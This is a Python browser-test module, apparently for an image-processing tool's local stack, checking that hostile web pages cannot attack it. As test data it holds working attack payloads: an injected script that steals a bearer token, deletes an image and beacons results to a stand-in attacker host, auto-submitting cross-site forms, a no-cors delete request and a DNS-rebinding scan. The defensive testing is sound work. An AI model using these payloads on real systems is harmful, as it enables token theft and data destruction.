"""A hostile web page against a running `imgpipe local`, in a real browser (headless Chromium).

GIVEN `imgpipe local` running (a subprocess on free ports) with an image processed and one
failed, and a page on another site (attacker.test, served by this test) open in Chromium
WHEN the page does what a web page can do without any permission: auto-submit a form to the
embedded AWS (plant `public/thumbs/x.html` as text/html and redirect to it), post to moto's
management API, delete objects with a no-cors fetch, read the table from a DNS-rebinding name;
or the browser opens an HTML or SVG file that a local process put under `public/`
THEN nothing is written, reset, deleted or read, no planted script runs, and no token leaves.

The attacker's names resolve to 127.0.0.1 (``--host-resolver-rules``), and Chromium's own
local-network-access checks are off: Firefox and Safari have none, and the stack must hold
on its own. Each test states the outcome the attack had before the stack refused it.
"""

from __future__ import annotations

import html
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from tests.cli.conftest import StackProcess, aws_client
from tests.cli.test_browser import CHROMIUM, CHROMIUM_ARGS, NEEDS_CHROMIUM, upload
from tests.conftest import BAD, GOOD

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.xdist_group("local_stack"),
    NEEDS_CHROMIUM,
]

ATTACKER = "attacker.test"
REBIND = "rebind.test"
ARGS = [
    *CHROMIUM_ARGS,
    f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1, MAP *.{REBIND} 127.0.0.1",
    "--disable-features=LocalNetworkAccessChecks",
]
# What the planted page runs: the chain (token, failed uploads, a delete), reported
# to the attacker. Its first statement marks that it ran at all.
PLANTED = """<script>
document.title = "ran";
(async () => {
  const t = await (await fetch("/local/token")).json();
  const h = {authorization: "Bearer " + t.access_token};
  const failed = await (await fetch("/images?status=failed", {headers: h})).text();
  const del = await fetch("/images/VICTIM", {method: "DELETE", headers: h});
  navigator.sendBeacon("LOOT", JSON.stringify({failed, deleted: del.status}));
  document.title = "pwned";
})();
</script>"""


class Attacker:
    """attacker.test: serves the pages a test sets, and collects what they report."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.loot: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                """Quiet."""

            def do_GET(self) -> None:
                body = attacker.pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                length = min(int(self.headers.get("Content-Length") or 0), 1_000_000)
                attacker.loot.append(self.rfile.read(length).decode(errors="replace"))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://{ATTACKER}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def processed(client: httpx.Client, iid: str, key: dict[str, str]) -> dict[str, Any]:
    deadline = time.monotonic() + 90
    while True:
        r = client.get(f"/images/{iid}", headers=key)
        if r.status_code == 200 and r.json()["status"] != "processing":
            record: dict[str, Any] = r.json()
            return record
        assert time.monotonic() < deadline, f"{iid} not processed"
        time.sleep(0.3)


@pytest.fixture(scope="module")
def images(stack: StackProcess) -> dict[str, str]:
    """A done image (the victim of deletes) and a failed one (whose details would leak)."""
    key = {"x-api-key": stack.api_key}
    with httpx.Client(base_url=stack.api, timeout=30) as client:
        done = processed(client, upload(client, stack, GOOD / "320x240.jpg"), key)
        failed = processed(client, upload(client, stack, BAD / "truncated.jpg"), key)
    assert (done["status"], failed["status"]) == ("done", "failed")
    return {"done": done["id"], "failed": failed["id"], "source_key": done["source_key"]}


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    started = Attacker()
    try:
        yield started
    finally:
        started.stop()


@pytest.fixture
def page(fake_aws: None) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            yield browser.new_page()
        finally:
            browser.close()


def s3(stack: StackProcess) -> Any:
    return aws_client("s3", stack.aws)


def exists(stack: StackProcess, key: str) -> bool:
    client = s3(stack)
    try:
        client.head_object(Bucket=stack.bucket, Key=key)
    except client.exceptions.ClientError:
        return False
    return True


def settle(page: Any, leaving: str) -> None:
    """Wait until the page has navigated away from ``leaving`` and finished loading."""
    page.wait_for_url(lambda url: not url.startswith(leaving), timeout=30_000)
    page.wait_for_load_state("load", timeout=30_000)


def test_a_form_on_another_site_cannot_plant_a_page_and_take_over(
    stack: StackProcess, images: dict[str, str], attacker: Attacker, page: Any
) -> None:
    # Before: moto stored the form's file as text/html and redirected the browser to it on
    # the CDN stand-in, which served it from the API's origin; its script took the gallery's
    # admin token, read every failed upload and deleted an image.
    key = f"public/thumbs/{uuid.uuid4().hex[:8]}.html"
    script = PLANTED.replace("VICTIM", images["done"]).replace("LOOT", f"{attacker.url}/loot")
    attacker.pages["/plant"] = f"""
<form id="f" method="POST" action="{stack.aws}/{stack.bucket}" enctype="multipart/form-data">
<input name="key" value="{key}"><input name="Content-Type" value="text/html">
<input name="success_action_redirect" value="{stack.cdn}/{key.removeprefix("public/")}">
<textarea name="file">{html.escape(script)}</textarea></form>
<script>document.getElementById("f").submit()</script>"""

    page.goto(f"{attacker.url}/plant")
    settle(page, attacker.url)

    # The embedded AWS refused the form: the browser shows its refusal, not a planted page.
    assert page.url.startswith(stack.aws), page.url
    assert "cross_site" in page.content()
    assert page.title() not in ("ran", "pwned")
    assert not exists(stack, key)
    assert attacker.loot == []
    r = httpx.get(f"{stack.api}/images/{images['done']}", headers={"x-api-key": stack.api_key})
    assert r.json()["status"] == "done"


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("planted.html", "text/html"), ("planted.svg", "image/svg+xml")],
)
def test_a_file_a_local_process_planted_never_runs_from_the_cdn(
    stack: StackProcess,
    images: dict[str, str],
    attacker: Attacker,
    page: Any,
    name: str,
    content_type: str,
) -> None:
    # Before: any local process (the embedded AWS takes any credentials) could put an HTML or
    # SVG file under public/; the CDN stand-in served it as a page of the API's origin.
    script = PLANTED.replace("VICTIM", images["done"]).replace("LOOT", f"{attacker.url}/loot")
    body = (
        script
        if name.endswith(".html")
        else f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
    )
    s3(stack).put_object(
        Bucket=stack.bucket,
        Key=f"public/thumbs/{name}",
        Body=body.encode(),
        ContentType=content_type,
    )

    response = page.goto(f"{stack.cdn}/thumbs/{name}")
    page.wait_for_load_state("load")

    assert response is not None and response.status == 404
    assert page.title() not in ("ran", "pwned")
    assert attacker.loot == []
    # Renditions are what it serves, with CloudFront's headers, on an origin of its own.
    assert stack.cdn != stack.api


def test_a_page_on_another_site_cannot_delete_objects(
    stack: StackProcess, images: dict[str, str], attacker: Attacker, page: Any
) -> None:
    # Before: a no-cors POST ?delete (no preflight needed) removed the original.
    xml = f"<Delete><Object><Key>{images['source_key']}</Key></Object></Delete>"
    attacker.pages["/delete"] = f"""<script>
fetch("{stack.aws}/{stack.bucket}?delete", {{method: "POST", mode: "no-cors", body: {xml!r}}})
  .then(() => document.title = "sent", () => document.title = "failed");
</script>"""

    page.goto(f"{attacker.url}/delete")
    page.wait_for_function("() => ['sent', 'failed'].includes(document.title)")

    assert exists(stack, images["source_key"])


def test_a_rebinding_page_cannot_read_the_embedded_aws(
    stack: StackProcess, images: dict[str, str], page: Any
) -> None:
    # Before: a page whose own name resolved to 127.0.0.1 was same-origin with the embedded
    # AWS and read the whole table (every uploader and file name) and private originals.
    port = stack.aws.rsplit(":", 1)[1]
    origin = f"http://{stack.bucket}.{REBIND}:{port}"
    scan = {
        "X-Amz-Target": "DynamoDB_20120810.Scan",
        "Content-Type": "application/x-amz-json-1.0",
        "Authorization": "AWS4-HMAC-SHA256 Credential=x/20240101/us-east-1/dynamodb/"
        "aws4_request, SignedHeaders=host, Signature=0",
    }
    attack = f"""<script>
(async () => {{
  const scan = await fetch("/", {{method: "POST", headers: {scan!r},
    body: JSON.stringify({{TableName: "{stack.table}"}})}});
  const original = await fetch("/{images["source_key"]}");
  document.title = `scan ${{scan.status}} ${{(await scan.text()).includes("Items")}} ` +
    `original ${{original.status}}`;
}})().catch((e) => document.title = "error " + e);
</script>"""
    # The attacker's server answered this one page before the name was re-pointed (a real
    # rebinding flips DNS; here Playwright serves it, and the rest goes to 127.0.0.1).
    page.route(
        f"{origin}/attack", lambda route: route.fulfill(body=attack, content_type="text/html")
    )

    page.goto(f"{origin}/attack")
    page.wait_for_function("() => /^(scan|error)/.test(document.title)")

    assert page.title() == "scan 421 false original 421", page.title()


def test_a_form_on_another_site_cannot_reset_the_embedded_aws(
    stack: StackProcess, images: dict[str, str], attacker: Attacker, page: Any
) -> None:
    # Before: one form POST to /moto-api/reset wiped every bucket, queue and table; the API
    # then answered 500. (Last in this module: on a stack without the guard it ends it.)
    attacker.pages["/reset"] = f"""<form id="f" method="POST" action="{stack.aws}/moto-api/reset">
</form><script>document.getElementById("f").submit()</script>"""

    page.goto(f"{attacker.url}/reset")
    settle(page, attacker.url)

    # Refused as another site's request (before the management API's own lock is reached).
    assert page.url.startswith(stack.aws) and "cross_site" in page.content()
    r = httpx.get(f"{stack.api}/images/{images['done']}", headers={"x-api-key": stack.api_key})
    assert r.status_code == 200 and r.json()["status"] == "done"
    assert exists(stack, images["source_key"])
